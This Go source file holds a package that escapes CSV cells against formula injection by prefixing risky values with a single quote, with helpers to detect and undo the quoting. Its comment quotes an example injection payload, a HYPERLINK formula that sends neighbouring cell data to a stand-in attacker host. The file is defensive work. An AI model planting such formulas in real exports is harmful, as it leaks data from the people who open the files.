// Package spreadsheet keeps the CSV files Scrutin writes from running as
// formulas when a spreadsheet opens them (CSV injection, also called formula
// injection: OWASP, "CSV Injection").
//
// Spreadsheets read a cell that starts with =, +, - or @ as a formula, and
// some also one that starts with a tab or a carriage return: a voter named
// =HYPERLINK("https://attacker.example/?"&A2, "Click") would open as a live
// link in a scrutineer's spreadsheet, carrying the other cells with it. As
// OWASP advises, such a cell is written with a single quote (') before it, which
// makes every spreadsheet read it as text: "+33612345678" is written
// "'+33612345678", and a spreadsheet shows +33612345678, a phone number, not
// the sum 33612345678.
//
// The rule, for programs reading these files: a cell that starts with a
// single quote had it added by Scrutin; drop that first character and the
// rest is the value. So that the rule holds for every value, a value that
// itself starts with a single quote gets one more: 'quoted is written
// with two single quotes before quoted.
package spreadsheet

// Formula reports whether a spreadsheet may read s as a formula: it starts
// with =, +, -, @, a tab or a carriage return.
func Formula(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// Cell returns s as a CSV cell a spreadsheet reads as text: with a single
// quote before it when it starts like a formula, or with a single quote.
func Cell(s string) string {
	if Formula(s) || s != "" && s[0] == '\'' {
		return "'" + s
	}
	return s
}

// Value undoes Cell: s without its first character when that is a single
// quote.
func Value(s string) string {
	if s != "" && s[0] == '\'' {
		return s[1:]
	}
	return s
}
